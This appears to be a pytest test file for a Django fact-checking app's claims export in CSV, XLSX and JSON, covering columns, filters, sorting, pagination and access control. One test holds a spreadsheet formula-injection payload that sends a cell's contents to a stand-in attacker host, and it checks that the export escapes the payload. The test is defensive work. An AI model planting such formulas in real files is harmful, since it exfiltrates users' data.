"""The claims table's exports: the filtered rows, as plain text, in useful columns."""

import csv
import io
import json

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.conftest import (
    BODY,
    cite,
    current_version,
    make_approved,
    make_article,
    make_source,
    rating,
)
from verifier import workflow
from verifier.models import Claim

pytestmark = pytest.mark.django_db

COLUMNS = [
    "#",
    "Article",
    "Claim",
    "Claimant",
    "State",
    "Verdict",
    "Assignee",
    "Sources",
    "Updated",
]


def export(client, user, fmt, **filters):
    """The export's rows as dicts of strings (None for an empty cell)."""
    client.force_login(user)
    response = client.get("/claims/", {"_export": fmt, **filters})
    assert response.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        return [
            dict(zip(rows[0], [v or None for v in row], strict=True))
            for row in rows[1:]
        ]
    if fmt == "json":
        return json.loads(response.content)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def headers(client, user, fmt):
    client.force_login(user)
    response = client.get("/claims/", {"_export": fmt})
    if fmt == "csv":
        return next(csv.reader(io.StringIO(response.content.decode())))
    if fmt == "json":
        return list(json.loads(response.content)[0])
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [cell.value for cell in sheet[1]]


def many_claims(user, n, title="Big article"):
    body = "\n\n".join(
        f"Statement {i:03} says prices rose 3.2% in March." for i in range(n)
    )
    return make_article(user, body=body, title=title)


@pytest.fixture
def worked(checker, editor):
    """An article with one approved claim citing two sources, and two open claims."""
    article = make_article(
        checker,
        spans=[workflow.Span(0, BODY.index("\n"), claimant="Labor Department")],
        title="Jobs <b>report</b>",
    )
    claim = article.claims.get()
    workflow.start(claim, user=checker, version=current_version(claim))
    cite(claim, checker)
    cite(claim, checker, make_source(checker, title="Second source"))
    workflow.save_verdict(
        claim,
        user=checker,
        rating=rating("False"),
        rationale="No.",
        version=current_version(claim),
    )
    workflow.submit(claim, user=checker, version=current_version(claim))
    workflow.approve(claim, user=editor, version=current_version(claim))
    make_article(checker, body="Other claim one.\n\nOther claim two.", title="Other")
    return article


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_has_the_columns_a_spreadsheet_user_wants(client, checker, worked, fmt):
    assert headers(client, checker, fmt) == COLUMNS


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_is_plain_text(client, checker, worked, fmt):
    rows = export(client, checker, fmt)
    (row,) = [r for r in rows if r["State"] == "Approved"]
    assert row["Verdict"] == "False"
    assert row["State"] == "Approved"
    assert (
        row["Article"] == "Jobs <b>report</b>"
    )  # the title as typed, not markup of ours
    assert not any(
        "<span" in str(v) or "<a " in str(v) or "verdict" in str(v)
        for r in rows
        for v in r.values()
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_row_carries_claimant_assignee_sources_and_update_time(
    client, checker, worked, fmt
):
    claim = Claim.objects.get(state=Claim.State.APPROVED)
    (row,) = [r for r in export(client, checker, fmt) if r["State"] == "Approved"]
    assert row["Claim"] == claim.text
    assert row["Claimant"] == "Labor Department"
    assert row["Assignee"] == "alice"
    assert int(row["Sources"]) == 2
    assert row["Updated"] == claim.updated_at.strftime("%Y-%m-%d %H:%M")


def test_export_holds_the_whole_claim_text(client, checker):
    text = "A claim that is longer than the table shows on the page, " * 3
    make_article(checker, body=text.strip())
    (row,) = export(client, checker, "csv")
    assert row["Claim"] == text.strip()


def test_export_holds_every_row_beyond_the_first_page(client, checker):
    many_claims(checker, 60)  # the page shows 50
    rows = export(client, checker, "csv")
    assert len(rows) == 60
    assert {r["Claim"][:13] for r in rows} == {f"Statement {i:03}" for i in range(60)}


def test_export_from_a_later_page_still_holds_every_row(client, checker):
    many_claims(checker, 60)
    assert len(export(client, checker, "csv", page=2)) == 60


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_holds_exactly_the_filtered_rows(client, checker, editor, fmt):
    article = many_claims(checker, 55)
    other = many_claims(checker, 3, title="Other article")
    claims = list(article.claims.order_by("start"))
    for claim in claims[:52]:
        workflow.dismiss(
            claim, user=checker, reason="Duplicate.", version=current_version(claim)
        )
    rows = export(client, checker, fmt, state="dismissed", article=article.pk)
    assert sorted(int(r["#"]) for r in rows) == [c.pk for c in claims[:52]]
    assert not {r["Article"] for r in rows} - {article.title}
    assert other.title not in {r["Article"] for r in rows}


def test_export_follows_the_text_search(client, checker):
    many_claims(checker, 12)
    rows = export(client, checker, "csv", q="Statement 007")
    assert [r["Claim"][:13] for r in rows] == ["Statement 007"]


def test_export_follows_the_sort_order(client, checker):
    many_claims(checker, 5)
    rows = export(client, checker, "csv", sort="-text")
    assert [r["Claim"][:13] for r in rows] == [
        f"Statement {i:03}" for i in (4, 3, 2, 1, 0)
    ]


def test_invalid_filter_exports_no_rows(client, checker):
    many_claims(checker, 3)
    assert export(client, checker, "csv", state="no-such-state") == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_spreadsheet_cells_cannot_start_a_formula(client, checker, fmt):
    make_article(checker, body='=HYPERLINK("https://evil.example/?"&A1,"Click")')
    (row,) = export(client, checker, fmt)
    assert row["Claim"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_json_export_keeps_text_that_looks_like_a_formula(client, checker):
    make_article(checker, body="=1+1 is what the minister wrote.")
    (row,) = export(client, checker, "json")
    assert row["Claim"] == "=1+1 is what the minister wrote."


def test_anonymous_cannot_export(client, worked):
    response = client.get("/claims/", {"_export": "csv"})
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_export_query_count_does_not_grow_with_rows(client, checker, editor):
    def queries(n):
        article = many_claims(checker, n, title=f"Article of {n}")
        for claim in article.claims.all()[:2]:
            make_approved(claim, checker, editor)
        client.force_login(checker)
        with CaptureQueriesContext(connection) as context:
            client.get("/claims/", {"_export": "csv", "article": article.pk})
        return len(context)

    assert queries(3) == queries(30)
